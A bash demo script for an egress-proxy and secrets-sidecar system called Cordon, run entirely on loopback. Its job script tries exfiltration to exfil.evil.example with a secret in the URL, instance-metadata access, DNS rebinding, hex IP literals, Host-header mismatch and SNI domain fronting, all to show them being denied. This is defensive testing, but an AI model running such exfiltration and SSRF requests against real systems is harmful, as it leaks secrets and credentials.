#!/usr/bin/env bash
# demo.sh: Cordon's main job on local defaults, with the real binaries.
#
# It plays one Fargate task of org acme's platform job block_follower on this
# machine's loopback: a fake internet (fake-internet: HTTP, HTTPS and DNS on
# 127.0.0.20/.53), the egress proxy in static mode enforcing
# deploy/allowlists, and the job itself wrapped by `cordon-sidecar run`, which
# injects its secrets, strips the task's AWS credentials and scrubs its
# output. Then the security team's side: lint and a review plan of an
# allowlist edit. Every process is stopped on exit; nothing leaves loopback.
#
# Usage: test/scripts/demo.sh [BIN_DIR]   (make demo builds ./bin first)
set -euo pipefail

root=$(cd "$(dirname "$0")/../.." && pwd)
bin=${1:-$root/bin}
work=$(mktemp -d /tmp/cordon-demo.XXXXXX)
pids=()
cleanup() {
  for pid in "${pids[@]}"; do kill "$pid" 2>/dev/null || true; done
  wait 2>/dev/null || true
  rm -rf "$work"
}
trap cleanup EXIT

bold() { printf '\n\033[1m== %s\033[0m\n' "$*"; }
wait_port() { # wait_port HOST PORT: until something listens, at most 10 s
  for _ in $(seq 100); do
    (exec 3<>"/dev/tcp/$1/$2") 2>/dev/null && return 0
    sleep 0.1
  done
  echo "demo: nothing listens on $1:$2 after 10s; see $work/*.log" >&2
  exit 1
}

for b in cordon-egress cordon-sidecar cordon-xds fake-internet; do
  [ -x "$bin/$b" ] || { echo "demo: $bin/$b missing: run make build" >&2; exit 1; }
done

bold "1. A fake internet on loopback"
# rpc.monad.example is allowlisted for block_follower; exfil.evil.example is
# not; the RDS host is allowlisted but its DNS answer is the metadata address,
# as a rebinding attacker would arrange it.
rds=trace-prod.cluster-c1a2b3c4d5e6.us-east-1.rds.amazonaws.com
"$bin/fake-internet" --http 127.0.0.20:8545 --https 127.0.0.20:443 --udp-echo "" \
  --dns 127.0.0.53:5353 --ca-out "$work/internet-ca.pem" \
  --name rpc.monad.example=127.0.0.20 --name exfil.evil.example=127.0.0.21 \
  --name "$rds=169.254.169.254" \
  >"$work/internet.jsonl" 2>"$work/internet.log" &
pids+=($!)
wait_port 127.0.0.20 8545
echo "rpc.monad.example -> 127.0.0.20 (HTTP :8545, HTTPS :443); DNS on 127.0.0.53:5353"

bold "2. The egress proxy, enforcing deploy/allowlists for acme/block_follower"
# --unsafe-allow-cidr: the fake internet lives on loopback, which the proxy
# otherwise refuses to dial. IP literals stay denied; metadata always is.
"$bin/cordon-egress" serve --listen 127.0.0.1:3128 --allowlists "$root/deploy/allowlists" \
  --job acme/block_follower --dns-server 127.0.0.53:5353 \
  --unsafe-allow-cidr 127.0.0.0/8 --metrics 127.0.0.1:9128 \
  >"$work/egress.log" 2>&1 &
pids+=($!)
wait_port 127.0.0.1 3128
echo "listening on 127.0.0.1:3128 (metrics on 127.0.0.1:9128)"

bold "3. The job, wrapped by cordon-sidecar run"
cat >"$work/secrets.json" <<'EOF'
{"monad_rpc_key": "mrk_live_5f2a9c1e7b3d48aa90c1", "slack_token": "xoxb-1234567890-0987654321-AbCdEfGhIjKlMnOpQrStUvWx"}
EOF
cat >"$work/job.sh" <<'EOF'
try() { # try LABEL CURL-ARGS...: print the status and Cordon's deny reason
  label=$1; shift
  out=$(curl -sS -o /dev/null -D - --max-time 5 "$@" 2>&1) || true
  code=$(printf '%s\n' "$out" | sed -n 's/^HTTP\/[0-9.]* \([0-9]*\).*/\1/p' | tail -n 1)
  why=$(printf '%s\n' "$out" | tr -d '\r' | sed -n 's/^[Xx]-[Cc]ordon-[Dd]eny-[Rr]eason: //p' | tail -n 1)
  printf '  %-58s %s %s\n' "$label" "${code:-fail}" "${why:+($why)}"
}
echo "env: MONAD_RPC_KEY is ${#MONAD_RPC_KEY} bytes; HTTP_PROXY=$HTTP_PROXY"
echo "env: task credentials visible to the job: ${AWS_ACCESS_KEY_ID:-none}"
echo "egress attempts (status, deny reason):"
try "GET http://rpc.monad.example:8545/ (allowlisted)"      http://rpc.monad.example:8545/block
try "GET https://rpc.monad.example/ via CONNECT + SNI"        --cacert "$CA" https://rpc.monad.example/
try "GET http://exfil.evil.example/?k=<secret>"              "http://exfil.evil.example/?k=$MONAD_RPC_KEY"
try "GET http://169.254.169.254/ (instance metadata)"         http://169.254.169.254/latest/meta-data/
try "GET http://0x7f000014:8545/ (hex IP literal)"            http://0x7f000014:8545/
try "CONNECT rds host:5432, DNS answers 169.254.169.254"      --proxytunnel "http://$RDS:5432/"
try "Host header disagreeing with the URI"                    -H "Host: exfil.evil.example" http://rpc.monad.example:8545/
printf '  %-58s ' "TLS to rpc.monad.example with SNI exfil.evil.example"
if echo | openssl s_client -proxy 127.0.0.1:3128 -connect rpc.monad.example:443 \
     -servername exfil.evil.example >/dev/null 2>&1; then echo "handshake completed"; else echo "tunnel closed (domain fronting refused)"; fi
echo "the job now prints its secrets in several forms:"
echo "  plain:   $MONAD_RPC_KEY"
echo "  base64:  $(printf %s "$MONAD_RPC_KEY" | base64)"
echo "  hex:     $(printf %s "$MONAD_RPC_KEY" | od -An -tx1 | tr -d ' \n')"
echo "  in JSON: {\"api_key\": \"sk_live_abc123xyz\", \"slack\": \"$SLACK_TOKEN\"}"
echo "  email:   alerts go to oncall@acme.example"
exit 3
EOF
set +e
AWS_ACCESS_KEY_ID=AKIAIOSFODNN7EXAMPLE AWS_SECRET_ACCESS_KEY=demo-task-role-secret \
CA="$work/internet-ca.pem" RDS="$rds" \
  "$bin/cordon-sidecar" run --secrets-file "$work/secrets.json" --timeout 60s \
  --usage-file "$work/usage.json" -- sh "$work/job.sh"
code=$?
set -e
echo "job exit code, passed through by the wrapper: $code"
echo "usage summary: $(cat "$work/usage.json" 2>/dev/null || echo none)"

bold "4. What the proxy decided (one canonical line per decision)"
grep '"egress decision"' "$work/egress.log" | sed -E 's/.*"decision":"([a-z_]+)".*"reason":"([a-z_]*)".*"host":"([^"]*)".*"port":([0-9]+).*/  \1\t\2\t\3:\4/' || true
echo
echo "metrics:"
curl -s http://127.0.0.1:9128/metrics | grep '^cordon_egress_requests_total' | sed 's/^/  /'
echo
echo "what actually reached the internet:"
sed -E 's/.*"scheme":"([a-z]+)".*"method":"([A-Z]+)".*"host":"([^"]*)".*"path":"([^"]*)".*/  \1 \2 \3\4/' "$work/internet.jsonl"

bold "5. The security team: lint and review an allowlist change"
"$bin/cordon-xds" lint "$root/deploy/allowlists" && echo "  deploy/allowlists: clean"
mkdir -p "$work/proposed"
sed 's/    allow: \[platform_storage, alert_delivery\]/    allow: [platform_storage, alert_delivery, monad_rpc]/' \
  "$root/deploy/allowlists/acme.yaml" >"$work/proposed/acme.yaml"
echo "  proposed: give the user-class job price_alert the platform-only RPC set:"
"$bin/cordon-xds" lint "$work/proposed" 2>&1 | sed "s|$work/||; s/^/    /" || true
sed -i 's/allow: \[platform_storage, alert_delivery, monad_rpc\]/allow: [platform_storage, alert_delivery]\n    mode: report/' "$work/proposed/acme.yaml"
echo "  proposed instead: price_alert in report mode; the review plan:"
"$bin/cordon-xds" diff "$root/deploy/allowlists" "$work/proposed" | sed 's/^/    /'
echo
echo "demo done; every process stopped."
